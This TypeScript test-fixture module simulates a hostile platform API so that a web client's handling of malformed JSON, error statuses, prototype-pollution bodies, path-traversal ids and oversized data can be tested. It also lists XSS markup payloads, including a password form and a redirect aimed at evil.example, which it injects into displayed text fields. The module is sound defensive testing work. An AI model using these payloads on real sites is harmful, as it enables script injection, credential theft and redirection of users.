/** Bodies that replace a whole response, by name. */
export const HOSTILE_BODIES: Readonly<Record<string, string>> = {
  nothing: '',
  'a web page': '<!doctype html><title>Sign in to the airport</title><script>attacked()</script>',
  'truncated JSON': '{"playlist": [{"mediaid": "Wrk0',
  'a comma too many': '{"playlist": [],}',
  null: 'null',
  'a number': '0',
  'a text': '"playlist"',
  'a list': '[]',
  'a list of nothing': '[null, null, null]',
  'an empty object': '{}',
  'lists without end': `${'['.repeat(20_000)}${']'.repeat(20_000)}`,
  'a prototype': '{"__proto__": {"playlist": [], "attacked": true}, "constructor": {"prototype": {"id": 1}}}',
  'half a character': '{"title": "\\ud83c", "playlist": [{"mediaid": "\\udfff", "title": "\\ud800"}]}',
  'a byte order mark': '\ufeff{}',
  'control characters': '\u0000\u0001{"a": "\u0007"}',
  'two megabytes': JSON.stringify({ message: 'x'.repeat(2_000_000) }),
  'numbers beyond measure': '{"duration": 1e999, "progress": -1e999, "playlist": 9007199254740993}',
};

/** Statuses that replace the response. */
export const HOSTILE_STATUSES = [204, 205, 400, 401, 403, 404, 409, 418, 429, 500, 503];

type Json = null | boolean | number | string | readonly Json[] | { readonly [key: string]: Json };

/** Applies a change to every value of a JSON document, from the leaves up. */
function changeEach(value: Json, change: (value: Json, key: string) => Json, key = ''): Json {
  if (Array.isArray(value)) {
    const entries: readonly Json[] = value;
    return change(
      entries.map((entry) => changeEach(entry, change, key)),
      key,
    );
  }
  if (typeof value === 'object' && value !== null) {
    const entries = Object.entries(value as Readonly<Record<string, Json>>);
    return change(
      Object.fromEntries(entries.map(([name, each]) => [name, changeEach(each, change, name)])),
      key,
    );
  }
  return change(value, key);
}

const isList = (value: Json): value is readonly Json[] => Array.isArray(value);
const isId = (key: string): boolean => /(^|_)(media)?id$|Id$|slug$/i.test(key);
const texts = (replacement: string) => (value: Json) => (typeof value === 'string' ? replacement : value);
const numbers = (replacement: Json) => (value: Json) => (typeof value === 'number' ? replacement : value);
const ids = (replacement: string) => (value: Json, key: string) =>
  typeof value === 'string' && isId(key) ? replacement : value;

/** Changes of the platform's own response, by name. */
const DISTORTIONS: Readonly<Record<string, (value: Json, key: string) => Json>> = {
  'no texts': texts(''),
  'texts of 20,000 characters': texts('workout '.repeat(2500)),
  'half characters as texts': texts('\ud83c'),
  'texts in other directions': texts('\u202etuokrow\u202c\u0000\u200b'),
  'negative numbers': numbers(-1),
  'enormous numbers': numbers(1e308),
  'texts for numbers': numbers('many'),
  'folders as ids': ids('..'),
  'one id for all': ids('Wrk00001'),
  'ids of 5,000 characters': ids('a'.repeat(5000)),
  'ids with paths': ids('../../account/sign-out?x=#'),
  'objects for lists': (value) => (isList(value) ? Object.fromEntries(value.entries()) : value),
  'null in every list': (value) => (isList(value) ? [null, ...value, null] : value),
  'lists in lists': (value) => (isList(value) ? [value] : value),
  // Not of short lists: they lie within others, and a body of 400 MB would measure nothing but its own making.
  'every entry 30 times': (value) =>
    isList(value) && value.length > 2 ? value.flatMap((each) => Array<Json>(30).fill(each)) : value,
  'null for every text': (value) => (typeof value === 'string' ? null : value),
};

/** Distorts a response body; a body that is not JSON stays. */
function distort(body: string, change: (value: Json, key: string) => Json): string {
  try {
    return JSON.stringify(changeEach(JSON.parse(body) as Json, change));
  } catch {
    return body;
  }
}

/** A response that a hostile platform sends. */
export interface HostileResponse {
  readonly status: number;
  readonly body: string;
  readonly headers?: Readonly<Record<string, string>>;
}

export type Distortion = (response: HostileResponse) => HostileResponse;

/** Every way to answer wrongly, by name. */
export const WRONG_ANSWERS: ReadonlyMap<string, Distortion> = new Map<string, Distortion>([
  ...Object.entries(HOSTILE_BODIES).map(([name, body]): [string, Distortion] => [
    name,
    () => ({ status: 200, body }),
  ]),
  ...HOSTILE_STATUSES.map((status): [string, Distortion] => [
    `status ${status}`,
    () => ({ status, body: '{"message": "<b>No</b>"}' }),
  ]),
  ...Object.entries(DISTORTIONS).map(([name, change]): [string, Distortion] => [
    name,
    ({ status, body }) => ({ status, body: distort(body, change) }),
  ]),
]);

/** Markup that would run a script, leave the page or cover it if a browser took it for a part of the page. */
export const MARKUP: readonly string[] = [
  '<script>attacked()</script>',
  '<img src=x onerror=attacked()>',
  '<svg/onload=attacked()>',
  '<svg><script href="data:text/javascript,attacked()"/></svg>',
  '<a href="javascript:attacked()">press</a>',
  '<a href="\u0001java\nscript:attacked()">press</a>',
  '[press](javascript:attacked())',
  '![picture](x" onerror="attacked())',
  '<iframe srcdoc="<script>attacked()</script>"></iframe>',
  '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
  '<math><mtext><style><img src=x onerror=attacked()></style></mtext></math>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  '"><object data="data:text/html,<script>attacked()</script>"></object>',
  '<div style="position:fixed;inset:0;background:url(javascript:attacked())" onmouseover=attacked()>x</div>',
  '</title></script><template><script>attacked()</script></template>',
];

const TEXTS =
  /^(title|description|siteName|footerText|label|name|featuredLabel|genre|rating|trainerName|style|pace|best_for|difficulty|message|banner|content)$/;

/** Adds markup to the titles, descriptions, names and labels that a page shows. */
export const withMarkup =
  (markup: string): Distortion =>
  ({ status, body }) => ({
    status,
    body: distort(body, (value, key) =>
      typeof value === 'string' && TEXTS.test(key) ? `${value} ${markup}` : value,
    ),
  });
